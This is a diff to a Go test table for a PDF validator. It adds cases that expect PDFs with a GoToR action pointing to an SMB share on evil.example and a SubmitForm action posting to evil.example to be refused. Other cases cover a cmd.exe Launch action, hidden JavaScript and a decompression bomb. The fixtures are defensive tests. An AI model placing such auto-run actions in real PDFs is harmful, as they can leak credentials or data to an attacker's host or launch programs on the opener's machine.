@@ -86,6 +86,8 @@ func TestWhatIsRefused(t *testing.T) {
 		"pdf script hidden":      {makePDF(1, "", strings.Replace(objectStream("7 0 <</S/JavaScript/JS(x)>>"), "/Type/ObjStm", "/Type/Other", 1)), Rules{}, fault.Invalid, "file_active"},
 		"pdf packed oddly":       {makePDF(1, "", "<</Type/ObjStm/Filter/ASCIIHexDecode>>\nstream\n37203020\nendstream"), Rules{}, fault.Invalid, "file_broken"},
 		"pdf launches":           {makePDF(1, "/OpenAction<</S/Launch/F(cmd.exe)>>"), Rules{}, fault.Invalid, "file_active"},
+		"pdf opens elsewhere":    {makePDF(1, `/OpenAction<</S/GoToR/F(\\\\evil.example\\share\\x.pdf)>>`), Rules{}, fault.Invalid, "file_active"},
+		"pdf sends itself":       {makePDF(1, "/OpenAction<</S/SubmitForm/F(http://evil.example)>>"), Rules{}, fault.Invalid, "file_active"},
 		"pdf with a file":        {makePDF(1, "", "<</Type/EmbeddedFile/Length 0>>"), Rules{}, fault.Invalid, "file_active"},
 		"pdf form with script":   {makePDF(1, "/AcroForm<</XFA 9 0 R>>"), Rules{}, fault.Invalid, "file_active"},
 		"pdf bomb":               {makePDF(1, "", objectStream("7 0 "+strings.Repeat("0 ", maxObjects/2))), Rules{}, fault.Invalid, "file_bomb"},
